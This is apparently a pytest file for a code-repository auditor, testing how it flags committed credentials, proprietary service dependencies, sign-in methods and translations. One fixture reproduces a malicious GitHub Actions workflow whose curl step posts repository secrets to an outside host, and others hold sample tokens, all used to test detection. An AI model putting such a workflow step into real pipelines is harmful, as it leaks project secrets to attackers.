"""Session 7, t5: a conda environment export is no list of the project's features; committed credentials in a Rails
initializer, a Java properties file and an Authorization header; proprietary services named by what they are
(issue 12, first reads of session 6: itineraire_fraicheur, strasbourg/documentation, chatbot-stationnement, jZelli…)."""

from __future__ import annotations

from tests.test_reusability_fixtures import build, results, run_audit

# a `conda env export`: the whole environment, build strings and all (Jupyter's babel, keyring's secretstorage, oauthlib)
CONDA_EXPORT = ("name: itineraire\nchannels:\n  - conda-forge\n  - defaults\ndependencies:\n  - _libgcc_mutex=0.1=main\n"
                "  - _openmp_mutex=5.1=1_gnu\n  - alabaster=0.7.12=pyhd3eb1b0_0\n  - anyio=3.7.0=pyhd8ed1ab_1\n"
                "  - argon2-cffi=21.3.0=pyhd8ed1ab_0\n  - babel=2.11.0=py310h06a4308_0\n  - certifi=2023.5.7=pyhd8ed1ab_0\n  - flask=2.2.2=py310h06a4308_0\n  - geopandas=0.12.2=pyhd8ed1ab_0\n"
                "  - keyring=23.4.0=py310h06a4308_0\n  - oauthlib=3.2.2=pyhd8ed1ab_0\n  - requests-oauthlib=1.3.1=pyhd8ed1ab_0\n"
                "  - secretstorage=3.3.1=py310h06a4308_1\n  - pip:\n      - google-auth-oauthlib==0.4.6\n      - osmnx==1.3.0\n"
                "prefix: /home/dev/anaconda3/envs/itineraire\n")
# its pip freeze: packages built on the exporter's disk
PIP_FREEZE = "".join(f"{n} @ file:///tmp/build/80754af9/{n.lower()}_16325080{i:02d}186/work\n" for i, n in enumerate(
                     ("alabaster", "anyio", "argon2-cffi", "Babel", "backcall", "bleach", "certifi", "cffi", "chardet", "Flask", "oauthlib"))) + \
             "".join(f"pinned{i}==1.{i}.0\n" for i in range(14))  # (pinned ones too: parcours_a_la_carte's freeze has 138 of 301)
FLASK_API = ("from flask import Flask, jsonify\nimport geopandas as gpd\n\napp = Flask(__name__)\n\n\n@app.route('/itinerary')\n"
             "def itinerary():\n    return jsonify({'titre': 'Itinéraire le plus frais'})\n")


def test_a_conda_export_names_no_secret_no_translation_no_sign_in(tmp_path):
    path = build(tmp_path / "r", {"environment.yml": CONDA_EXPORT, "backend/app.py": FLASK_API, "backend/pipeline/requirements.txt": PIP_FREEZE,
                                  "frontend/src/App.js": "export default function App() { return <h1>Sortons au frais</h1>; }\n"})
    r = results(run_audit(path, tmp_path / "c", ["reusability.secrets", "reusability.portability", "interoperability.auth"]))
    assert r["reusability.secrets"]["status"] == "pass", r["reusability.secrets"]["message"]
    assert not any(e.get("path") == "environment.yml" for e in r["reusability.secrets"]["evidence"])
    assert r["reusability.portability"]["details"]["i18n"] is False, r["reusability.portability"]["evidence"]
    assert not r["reusability.secrets"]["evidence"], r["reusability.secrets"]["evidence"]  # nor the local build paths
    auth = r["interoperability.auth"]
    assert auth["status"] == "not_applicable" and "No sign-in of people found in the code" in auth["message"]["en"], auth  # no sign-in at all


def test_a_rails_secret_token_is_a_probable_secret(tmp_path):
    token = "cdb5ecd493a1ac8b0a62bb11c0f352916676d6c08a02177edfdf7902b27da2dbe8e3b1c7f51a4e2d9c0b6a8f7e5d4c3b2a19f8e7d6c5b4a3928171605f4e3d2c"
    path = build(tmp_path / "r", {
        "Gemfile": "source 'https://rubygems.org'\ngem 'rails', '3.2.13'\n",
        "config/initializers/secret_token.rb": "# Be sure to restart your server when you modify this file.\n\n"
                                               "# Your secret key for verifying the integrity of signed cookies.\n"
                                               f"SxbDataApi::Application.config.secret_token = '{token}'\n"})
    s = results(run_audit(path, tmp_path / "c", ["reusability.secrets"]))["reusability.secrets"]
    assert s["status"] == "fail", s["message"]
    assert any(e.get("path") == "config/initializers/secret_token.rb" and e.get("line") == 4 for e in s["evidence"])


def test_a_token_in_a_properties_file_and_in_an_authorization_header_are_secrets(tmp_path):
    path = build(tmp_path / "r", {
        "pom.xml": "<project><artifactId>module-chatbot-stationnement</artifactId></project>\n",
        "webapp/WEB-INF/conf/plugins/chatbot.properties": "# properties\nchatbot.pageTitle=chatbot\n\n"
                                                          "chatbot.recast.token=10791544c2df29868656179a4ba523bb\nchatbot.recast.password=\n",
        "src/java/fr/paris/Servlet.java": "class Servlet {\n    void send() {\n"
                                          "        //curl -H \"Authorization: Token 20791544c2df29868656179a4ba523cc\" -XPOST https://api.example.ai\n"
                                          "        headers.put(\"Authorization\", \"Token \" + strToken);\n"
                                          "        revoke.put(\"Authorization\", \"Basic Y2xpZW50OnNlY3JldA==\");\n    }\n}\n",  # client:secret
        "docs/authentification.rst": "::\n\n  Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==\n",  # RFC 7617's Aladdin:open sesame
        "src/java/fr/paris/messages_fr.properties": "login.password=Mot de passe\nlogin.token=Jeton\n",
    })
    s = results(run_audit(path, tmp_path / "c", ["reusability.secrets"]))["reusability.secrets"]
    assert s["status"] == "fail", s["message"]
    places = {(e.get("path"), e.get("line")) for e in s["evidence"]}
    assert ("webapp/WEB-INF/conf/plugins/chatbot.properties", 4) in places
    assert ("src/java/fr/paris/Servlet.java", 3) in places
    assert not any(p == "src/java/fr/paris/messages_fr.properties" for p, _ in places)
    assert ("src/java/fr/paris/Servlet.java", 4) not in places  # a header built from a variable
    assert ("src/java/fr/paris/Servlet.java", 5) not in places and not any(p.startswith("docs/") for p, _ in places)  # example logins


def test_label_keys_following_an_empty_password_setting_are_no_secret(tmp_path):
    path = build(tmp_path / "r", {
        "plugin.xml": "<plugin name=\"ZelliPlugin\"/>\n",
        "properties/plugin.prop": "[section]\nmember.password-min-length: 8\n#login SMS Orange\njcmsplugin.zelli.login-orange:\n"
                                  "jcmsplugin.zelli.pwd-orange.pwd:\n\n# prop accessible publiquement\n"
                                  "    jcmsplugin.zelli.prop.public:\\\n\tjcmsplugin.zelli.logo.app \\\n\tjcmsplugin.zelli.lbl.account.pwdReset.is.ko\n"})
    s = results(run_audit(path, tmp_path / "c", ["reusability.secrets"]))["reusability.secrets"]
    assert s["status"] == "pass" and not s["evidence"], (s["message"], s["evidence"])


LOCK = ["scaling.vendor-lock-in", "reusability.portability"]


def _named(r):
    return {e["value"]["service"] for e in r["scaling.vendor-lock-in"]["evidence"] if isinstance(e.get("value"), dict)}


def test_google_sheets_read_through_googles_generic_php_client_is_named_sheets(tmp_path):
    """Shaped like erasme/carto: composer google/apiclient, a model reading the spreadsheet with Google_Service_Sheets."""
    path = build(tmp_path / "r", {
        "composer.json": '{"name": "erasme/carto", "require": {"slim/slim": "^3.0", "google/apiclient": "^2.0"}}\n',
        "src/model/Spreadsheet.php": "<?php\nclass Spreadsheet {\n  function read($client) {\n"
                                     "    $client->setScopes(Google_Service_Sheets::SPREADSHEETS_READONLY);\n"
                                     "    $service = new Google_Service_Sheets($client);\n    return $service->spreadsheets_values->get($this->id, 'A1:Z');\n  }\n}\n",
        "api.php": "<?php\nrequire 'vendor/autoload.php';\n$app = new \\Slim\\App();\n$app->get('/spreadsheet', 'SpreadsheetController:dataAction');\n$app->run();\n"})
    r = results(run_audit(path, tmp_path / "c", LOCK))
    assert _named(r) == {"Google Sheets"}, r["scaling.vendor-lock-in"]["evidence"]
    assert "Google Sheets" in r["reusability.portability"]["message"]["en"], r["reusability.portability"]["message"]


def test_a_firebase_messaging_scope_is_firebase_not_google_workspace(tmp_path):
    """Shaped like GIP-RECIA/Notification-POC: a push consumer's application.yml giving FCM's OAuth scope."""
    path = build(tmp_path / "r", {
        "consumer-push/pom.xml": "<project><artifactId>consumer-push</artifactId></project>\n",
        "consumer-push/src/main/resources/application.yml": "push:\n  service-account-path:\n  fcm-url:\n"
                                                            "  fcm-scope: https://www.googleapis.com/auth/firebase.messaging\n"
                                                            "  firebase-auth-url: https://www.googleapis.com/auth/firebase.messaging\n",
        "consumer-push/src/main/java/fr/recia/Push.java": "package fr.recia;\n\npublic class Push {\n  String scope;\n}\n"})
    r = results(run_audit(path, tmp_path / "c", LOCK))
    assert _named(r) == {"Google Firebase"}, r["scaling.vendor-lock-in"]["evidence"]


def test_a_commented_example_connection_url_is_no_sql_server(tmp_path):
    """Shaped like GIP-RECIA/esco-dynamic-groups: Grouper's hibernate properties list example URLs in comments."""
    path = build(tmp_path / "r", {
        "build.xml": "<project name=\"esco-dynamic-groups\" default=\"jar\"/>\n",
        "resources/grouper_api_conf/grouper.hibernate.properties":
            "hibernate.connection.driver_class = com.mysql.jdbc.Driver\n\n# e.g. mysql:           jdbc:mysql://localhost:3306/grouper\n"
            "# e.g. oracle:          jdbc:oracle:thin:@server.school.edu:1521:sid\n# e.g. mssql:           jdbc:sqlserver://localhost:3280\n"
            "hibernate.connection.url = jdbc:mysql://localhost:3306/grouper_1_5_2\n",
        "src/org/esco/dynamicgroups/Main.java": "package org.esco.dynamicgroups;\n\npublic class Main {\n  public static void main(String[] a) {}\n}\n"})
    r = results(run_audit(path, tmp_path / "c", LOCK))
    assert "Microsoft SQL Server" not in _named(r), r["scaling.vendor-lock-in"]["evidence"]
    assert r["scaling.vendor-lock-in"]["status"] == "pass", r["scaling.vendor-lock-in"]["message"]


def test_the_xiti_tag_recast_ai_and_jalios_jcms_are_proprietary_services(tmp_path):
    """Shaped like GIP-RECIA/esco-xiti (pages setting xtsite for AT Internet's tag), lutece chatbot-stationnement (Lutece's
    plugin-recast, RecastDialogService) and a Jalios JCMS plugin (jZelli, jPlatformArchives)."""
    xiti = build(tmp_path / "x", {
        "src/escitiData.js": "/* Données pour xiti */\nfunction setXiti(info) {\n  xtsite = info.collectivite;\n  xtn2 = info.etab;\n"
                             "  xtpage = info.service;\n}\n",
        "src/xtfirst_ENT.js": "//-- Copyright 2009 AT Internet, All Rights Reserved.\n//-- AT Internet Tag 3.4.001\nvar xt1=\"\",xtcode=\"\";\n"})
    named = _named(results(run_audit(xiti, tmp_path / "cx", LOCK)))
    assert len(named) == 1 and next(iter(named)).startswith("AT Internet (XiTi)"), named
    bot = build(tmp_path / "b", {
        "pom.xml": "<project><artifactId>module-chatbot-stationnement</artifactId><dependencies><dependency>\n"
                   "<groupId>fr.paris.lutece.plugins</groupId>\n<artifactId>plugin-recast</artifactId>\n</dependency></dependencies></project>\n",
        "src/java/fr/paris/StationnementChatBot.java": "package fr.paris;\n\nimport fr.paris.lutece.plugins.recast.service.RecastDialogService;\n\n"
                                                       "public class StationnementChatBot {\n  Object r = RecastDialogService.getDialogResponse(null, null, null, null);\n}\n"})
    assert "Recast.AI (SAP Conversational AI)" in _named(results(run_audit(bot, tmp_path / "cb", LOCK)))
    jcms = build(tmp_path / "j", {
        "WEB-INF/plugins/ArchivesPlugin/plugin.xml": '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plugin PUBLIC "-//JALIOS//DTD JCMS-PLUGIN 1.7//EN" '
                                                     '"https://community.jalios.com/dtd/jcms-plugin-1.7.dtd">\n<plugin name="ArchivesPlugin" version="1.0"/>\n',
        "WEB-INF/classes/fr/cg44/archives/ArchivesUtil.java": "package fr.cg44.archives;\n\nimport com.jalios.jcms.Channel;\n\n"
                                                              "public class ArchivesUtil {\n  Channel channel = Channel.getChannel();\n}\n"})
    r = results(run_audit(jcms, tmp_path / "cj", LOCK))
    assert "Jalios JCMS" in _named(r) and r["scaling.vendor-lock-in"]["status"] != "pass", r["scaling.vendor-lock-in"]


def test_oidc_inside_void_callback_is_no_openid_connect(tmp_path):
    """Shaped like GIP-RECIA/Application-mobile-POC: Flutter widgets typed VoidCallback, sign-in through the portal's /cas/login
    (one file: not convincing alone), and a helper named useOidc elsewhere still counts as OIDC."""
    path = build(tmp_path / "r", {
        "pubspec.yaml": "name: netocentre_app_poc\ndependencies:\n  flutter:\n    sdk: flutter\n  http: ^0.13.5\n",
        "lib/pages/components/myAppBar.dart": "class MyAppBar {\n  final VoidCallback onTap;\n  MyAppBar(this.onTap);\n}\n",
        "lib/pages/components/servicesCard.dart": "class ServicesCard {\n  final VoidCallback onPressed;\n  final VoidCallback onLongPress;\n}\n",
        "lib/main.dart": "void main() {\n  runApp(const MyApp());\n}\n"})
    auth = results(run_audit(path, tmp_path / "c", ["interoperability.auth"]))["interoperability.auth"]
    assert not any(e.get("value") == "oidC" for e in auth["evidence"]) and "Standard" not in auth["message"]["en"], auth
    from auditor.facts.signal_registry import load_signals
    rx = __import__("re").compile(load_signals()["auth.oidc"].pattern, __import__("re").I)
    assert [m.group(0) for m in rx.finditer("const { useOidc } = x; new OidcService(); OIDC; VoidCallback")] == ["Oidc", "Oidc", "OIDC"]


def test_an_api_behind_the_uportal_portal_signs_in_through_its_soffit_token_not_ldap(tmp_path):
    """Shaped like GIP-RECIA/MCE and menu-cantine-web-service: Spring Boot APIs reading users from LDAP, authenticating
    every request with the portal's Soffit JWT (uPortal-soffit-renderer, SoffitApiPreAuthenticatedProcessingFilter)."""
    pom = ("<project><artifactId>mce</artifactId><dependencies>\n"
           "<dependency><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-web</artifactId></dependency>\n"
           "<dependency><groupId>org.springframework.ldap</groupId><artifactId>spring-ldap-core</artifactId></dependency>\n"
           "<dependency><groupId>org.jasig.portal</groupId><artifactId>uPortal-soffit-renderer</artifactId></dependency>\n"
           "</dependencies></project>\n")
    security = ("package fr.recia.menucantine.config;\n\nimport org.apereo.portal.soffit.security.SoffitApiAuthenticationManager;\n"
                "import org.apereo.portal.soffit.security.SoffitApiPreAuthenticatedProcessingFilter;\n\n"
                "public class SecurityConfiguration {\n  Object filter = new SoffitApiPreAuthenticatedProcessingFilter(key);\n}\n")
    api = ("package fr.recia.mce;\n\n@RestController\n@RequestMapping(\"/api\")\npublic class UserController {\n"
           "  @GetMapping(\"/user\")\n  public String user() { return ldapTemplate.lookup(\"uid=x\").toString(); }\n}\n")
    path = build(tmp_path / "r", {"pom.xml": pom, "src/main/java/fr/recia/menucantine/config/SecurityConfiguration.java": security,
                                  "src/main/java/fr/recia/mce/UserController.java": api,
                                  "src/main/resources/application.yml": "spring:\n  ldap:\n    urls: ldap://ldap.recia.fr:389\n"})
    auth = results(run_audit(path, tmp_path / "c", ["interoperability.auth"]))["interoperability.auth"]
    assert auth["status"] == "warn" and "uPortal" in auth["message"]["en"] and "uPortal" in auth["message"]["fr"], auth
    assert "LDAP" not in auth["message"]["en"]


def _i18n(tmp_path, files):
    p = results(run_audit(build(tmp_path / "r", files), tmp_path / "c", ["reusability.portability"]))["reusability.portability"]
    return p["details"]["i18n"], p


def test_java_message_bundles_a_prefixed_lang_folder_and_jsp_messages_are_translations(tmp_path):
    """Shaped like GIP-RECIA/cas-war-overlay, esup-portlet-sympa (message bundles) and georchestra-config (GEOR_Lang/fr.js)."""
    java = {"pom.xml": "<project><artifactId>esup-portlet-sympa</artifactId></project>\n",
            "src/main/java/org/esupportail/sympa/Portlet.java": "package org.esupportail.sympa;\n\npublic class Portlet {}\n"}
    assert _i18n(tmp_path / "a", {**java, "src/main/resources/messages_fr_FR.properties": "title=Listes de diffusion\n",
                                  "src/main/resources/messages_us_US.properties": "title=Mailing lists\n"})[0] is True
    assert _i18n(tmp_path / "b", {**java, "src/main/resources/custom_messages.properties": "screen.welcome=Welcome\n",
                                  "src/main/resources/custom_messages_fr.properties": "screen.welcome=Bienvenue\n"})[0] is True
    geor = {"mapfishapp/app/js/GEOR_Lang/fr.js": "OpenLayers.Lang.fr = OpenLayers.Util.extend(OpenLayers.Lang.fr, {\n  'Zoom': 'Zoomer'\n});\n",
            "mapfishapp/app/js/GEOR_custom.js": "GEOR.custom = { MAP_SCALES: [] };\n"}
    assert _i18n(tmp_path / "c", geor)[0] is True
    jsp = {"header/WEB-INF/jsp/index.jsp": "<%@ taglib uri=\"http://java.sun.com/jsp/jstl/fmt\" prefix=\"fmt\" %>\n"
                                          "<a title=\"<fmt:message key='go.home'/>\"><fmt:message key='logo'/></a>\n<p><fmt:message key='catalogue'/></p>\n",
           "header/WEB-INF/web.xml": "<web-app/>\n"}
    assert _i18n(tmp_path / "d", jsp)[0] is True


def test_a_gitignore_in_an_empty_translations_folder_is_no_translation(tmp_path):
    """Shaped like Observatoire-environnement-Bretagne/poppV2: Symfony's translations/ kept in git by its .gitignore, no file."""
    ok, p = _i18n(tmp_path, {"composer.json": '{"name": "oeb/popp", "require": {"symfony/framework-bundle": "^5.4"}}\n',
                             "translations/.gitignore": "", "templates/base.html.twig": "<h1>Observatoire photographique</h1>\n",
                             "src/Controller/HomeController.php": "<?php\nclass HomeController {}\n"})
    assert ok is False, p["evidence"]


def test_a_workflow_posting_the_repositorys_secrets_to_a_host_is_a_leak(tmp_path):
    """Shaped like datagora-erasme/itineraire_fraicheur's .github/workflows/github_actions_security.yml (GhostAction, 2025);
    a service's own token sent to that service, or a secret in a header, is no such leak."""
    ghost = ("name: Github Actions Security\non:\n  workflow_dispatch:\n  push:\njobs:\n  send-secrets:\n    runs-on: ubuntu-latest\n    steps:\n"
             "      - name: Github Actions Security\n        run: |\n"
             "          curl -s -X POST -d 'SONAR_HOST_URL=${{ secrets.SONAR_HOST_URL }}&SONAR_TOKEN=${{ secrets.SONAR_TOKEN }}' https://bold-dhawan.45-139-104-115.plesk.page\n")
    fine = ("name: ci\non: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: curl -s -F token=${{ secrets.CODECOV_TOKEN }} -F file=@coverage.xml https://codecov.io/upload/v2\n"
            "      - run: curl -X POST -H \"Authorization: Bearer ${{ secrets.DEPLOY_TOKEN }}\" -d '{\"ref\": \"main\"}' https://api.example.org/deploy\n")
    path = build(tmp_path / "r", {"backend/app.py": FLASK_API, ".github/workflows/github_actions_security.yml": ghost, ".github/workflows/ci.yml": fine})
    s = results(run_audit(path, tmp_path / "c", ["reusability.secrets"]))["reusability.secrets"]
    assert s["status"] == "fail" and "outside host" in s["message"]["en"] and "hôte extérieur" in s["message"]["fr"], s
    assert {(e["path"], e["line"]) for e in s["evidence"]} == {(".github/workflows/github_actions_security.yml", 11)}, s["evidence"]


def test_excel_driven_through_com_is_a_proprietary_dependency(tmp_path):
    """Shaped like datagora-erasme/datagora_dataquality: a Django view opening workbooks through win32com's Excel.Application."""
    view = ("import win32com.client as win32\n\n\ndef compare(request):\n    excel = win32.gencache.EnsureDispatch('Excel.Application')\n"
            "    wb = excel.Workbooks.Open(path)\n    return wb\n")
    r = results(run_audit(build(tmp_path / "r", {"mysite/home/views.py": view, "mysite/manage.py": "import django\n"}), tmp_path / "c", LOCK))
    assert _named(r) == {"Microsoft Office driven by COM automation (Windows)"}, r["scaling.vendor-lock-in"]


def test_a_shared_password_form_is_called_a_local_password_not_a_standard(tmp_path):
    """Shaped like datagora-erasme/pagesVertes: gspread's OAuth client (oauthlib, requests-oauthlib) reads a Google Sheet with a
    service account; the data update is protected by one password from the environment, compared to a POSTed field."""
    main = ("import os\nfrom flask import Flask, request, render_template\napp = Flask(__name__)\n\n\n@app.route('/update_data', methods=['GET', 'POST'])\n"
            "def update():\n    password = os.environ.get('PASSWORD')\n    if request.method == 'POST' and request.form['pw'] == password:\n"
            "        return render_template('success.html')\n    return render_template('login.html')\n")
    account = ('{\n  "type": "service_account",\n  "auth_uri": "https://accounts.google.com/o/oauth2/auth",\n'
               '  "token_uri": "https://oauth2.googleapis.com/token",\n  "auth_provider_x509_cert_url": "https://www.googleapis.com/oauth2/v1/certs"\n}\n')
    path = build(tmp_path / "r", {"main.py": main, "templates/login.html": '<form method="post"><input type="password" name="pw"></form>\n',
                                  "requirements.txt": "Flask==2.2.2\ngspread==5.4.0\ngoogle-auth-oauthlib==0.5.2\noauthlib==3.2.0\nrequests-oauthlib==1.3.1\n",
                                  "credentials.json.example": account})
    auth = results(run_audit(path, tmp_path / "c", ["interoperability.auth"]))["interoperability.auth"]
    assert "Standard" not in auth["message"]["en"] and "local password" in auth["message"]["en"] and "mot de passe" in auth["message"]["fr"], auth


def test_a_sheets_client_package_names_google_sheets_alone(tmp_path):
    """Shaped like datagora-erasme/pagesVertes: gspread in requirements.txt reads the directory from a Google Sheet."""
    path = build(tmp_path / "r", {"requirements.txt": "Flask==2.2.2\ngspread==5.4.0\n",
                                  "update_data.py": "import gspread\n\n\ndef main():\n    return gspread.service_account().open('annuaire')\n"})
    assert _named(results(run_audit(path, tmp_path / "c", LOCK))) == {"Google Sheets"}


def test_a_bigquery_scope_on_googles_generic_host_is_google_cloud_not_workspace(tmp_path):
    """Shaped like a PySpark job of gouv-nc-data (s18 c2): a Jira-to-BigQuery script giving BigQuery's OAuth scope on
    www.googleapis.com, with the BigQuery client declared. The scope is Google Cloud's, no Agenda, Drive or Gmail."""
    path = build(tmp_path / "r", {
        "requirements.txt": "google-cloud-bigquery>=3.0\nrequests>=2.31\n",
        "src/jira_export.py": "from google.cloud import bigquery\nimport requests\n\n"
                              "SCOPES = ['https://www.googleapis.com/auth/bigquery']\n\n\n"
                              "def load(rows):\n    client = bigquery.Client()\n    return client.insert_rows_json('t', rows)\n"})
    r = results(run_audit(path, tmp_path / "c", LOCK))
    assert _named(r) == {"Google Cloud APIs (BigQuery, Vision, Translate…)"}, r["scaling.vendor-lock-in"]["evidence"]
    assert "Workspace" not in r["reusability.portability"]["message"]["en"], r["reusability.portability"]["message"]


def test_a_drive_scope_on_googles_generic_host_stays_workspace(tmp_path):
    path = build(tmp_path / "r", {
        "requirements.txt": "google-api-python-client>=2.0\n",
        "src/sync.py": "from googleapiclient.discovery import build\n\nSCOPES = ['https://www.googleapis.com/auth/drive']\n\n\n"
                       "def service(creds):\n    return build('drive', 'v3', credentials=creds)\n"})
    r = results(run_audit(path, tmp_path / "c", LOCK))
    assert _named(r) == {"Google Workspace APIs (Agenda, Drive, Gmail…)"}, r["scaling.vendor-lock-in"]["evidence"]
